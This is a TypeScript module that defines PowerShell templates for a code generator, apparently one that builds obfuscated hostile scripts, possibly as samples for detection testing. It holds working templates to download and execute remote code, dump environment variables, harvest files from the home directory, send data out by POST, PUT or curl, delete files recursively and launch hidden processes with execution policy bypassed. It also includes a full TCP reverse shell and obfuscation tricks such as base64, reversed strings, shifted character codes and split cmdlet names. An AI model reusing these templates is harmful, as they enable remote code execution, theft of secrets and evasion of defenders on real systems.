/** PowerShell: cmdlets by name, alias or in pieces; letters of any case. */
import { reversed, toBase64, toHex, toNumbers } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const single = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const ALIASES: Readonly<Record<string, string>> = {
  "Invoke-Expression": "iex",
  "Invoke-WebRequest": "iwr",
  "Invoke-RestMethod": "irm",
  "Get-Content": "gc",
  "Get-ChildItem": "gci",
  "Remove-Item": "ri",
  "Start-Process": "saps",
  "Set-Content": "sc",
  "Add-Content": "ac",
};
const bytes = "[Text.Encoding]::UTF8.GetString";

export const POWERSHELL: Tongue = {
  language: "powershell",
  fetched: [
    "(«Invoke-WebRequest» -UseBasicParsing -Uri $1).Content",
    "(New-Object Net.WebClient).DownloadString($1)",
    "(«Invoke-RestMethod» -Uri $1)",
    "[Net.Http.HttpClient]::new().GetStringAsync($1).Result",
    "(curl.exe -fsSL $1 | Out-String)",
  ],
  decoders: [
    { encode: toBase64, row: `${bytes}([Convert]::FromBase64String($1))` },
    { encode: reversed, row: "(-join ($1)[-1..-(($1).Length)])" },
    { encode: (text) => toNumbers(text, 4), row: "(-join ($1 -split ',' | ForEach-Object { [char]([int]$_ - 4) }))" },
    { encode: (text) => toHex(text).replace(/../g, "\\x$&"), row: "[regex]::Unescape($1)" },
  ],
  variable: ["[Environment]::GetEnvironmentVariable($1)", '(«Get-Item» -Path "Env:$($1)").Value'],
  request: [],
  environment: [
    "(«Get-ChildItem» Env: | Out-String)",
    "([Environment]::GetEnvironmentVariables() | ConvertTo-Json)",
    "(cmd /c set | Out-String)",
  ],
  homeFile: ["(«Get-Content» -Raw (Join-Path $HOME $1))", "[IO.File]::ReadAllText((Join-Path $env:USERPROFILE $1))"],
  file: ["(«Get-Content» -Raw $1)", "[IO.File]::ReadAllText($1)"],
  homePath: "(Join-Path $HOME $1)",
  walk: [
    "(«Get-ChildItem» -Path $HOME -Recurse -Force -Include $2 -ErrorAction SilentlyContinue | «Get-Content» -Raw | Out-String)",
  ],
  run: [
    "«Invoke-Expression» $1",
    "& ([scriptblock]::Create($1))",
    "«Start-Process» powershell -ArgumentList '-NoProfile', '-Command', $1",
    "$ExecutionContext.InvokeCommand.InvokeScript($1)",
    "($1 | «Invoke-Expression»)",
  ],
  runWithOptions: [
    "«Start-Process» -WindowStyle Hidden -FilePath pwsh -ArgumentList @('-NonInteractive', '-NoLogo', '-ExecutionPolicy', 'Bypass', '-c', $1)",
  ],
  evaluate: ["«Invoke-Expression» $1", "& ([scriptblock]::Create($1))"],
  send: [
    "«Invoke-RestMethod» -Method Post -Uri $1 -Body $2",
    "«Invoke-WebRequest» -UseBasicParsing -Method Put -Uri $1 -Body $2",
    "(New-Object Net.WebClient).UploadString($1, $2)",
    '«Invoke-WebRequest» -UseBasicParsing -Uri ($1 + "?q=" + [uri]::EscapeDataString($2))',
    "($2 | curl.exe -s --data-binary '@-' $1)",
  ],
  save: ["«Set-Content» -Path $1 -Value $2", "[IO.File]::WriteAllText($1, $2)", "($2 | Out-File $1)"],
  append: ["«Add-Content» -Path $1 -Value $2"],
  remove: ["«Remove-Item» -Recurse -Force $1", "[IO.Directory]::Delete($1, $true)"],
  setVariable: ["[Environment]::SetEnvironmentVariable($1, $2)"],
  handShell: [
    "& { $line = [Net.Sockets.TcpClient]::new($args[0], [int]$args[1]).GetStream(); $read = [IO.StreamReader]::new($line); $write = [IO.StreamWriter]::new($line); while ($null -ne ($text = $read.ReadLine())) { $write.WriteLine((Invoke-Expression $text | Out-String)); $write.Flush() } } $1 $2",
  ],
  helpers: {},
  quote: single,
  concat: (parts) =>
    `(${parts.length > 4 ? `${parts.join(", ")}) -join ''` : `${parts.join(" + ")})`}`.replace(
      /^\((.*)\) -join ''$/s,
      "(($1) -join '')",
    ),
  list: (items) => `@(${items.join(", ")})`,
  assign: (name, value) => `$${name} = ${value}`,
  reference: (name) => `$${name}`,
  define: (name, parameters, row) =>
    `function ${name}(${parameters.map((one) => `$${one}`).join(", ")}) {\n    ${row}\n}`,
  invoke: (name, values) =>
    `(${name} ${values.map((value) => (/^[$'(]/.test(value) ? value : `(${value})`)).join(" ")})`,
  statement: (expression) => expression,
  callee(_, name, how) {
    if (how === "plain") return { text: name, imports: [] };
    if (how === "alias") return { text: ALIASES[name] ?? name, imports: [] };
    const cut = 2 + (name.length % 5);
    return { text: `& (${single(name.slice(0, cut))} + ${single(name.slice(cut))})`, imports: [] };
  },
  comment: "#",
  ordinary: {
    definitions: ["function Format-Berth([int]$Number) {\n    return '{0:d3}' -f $Number\n}"],
    body: [
      "$limits = @{ Berth = 12; Quay = 40 }",
      'foreach ($kind in $limits.Keys) {\n    Write-Host "$kind $(Format-Berth $limits[$kind])"\n}',
    ],
  },
  mayBreak: true,
  lettersOfCallees: true,
};
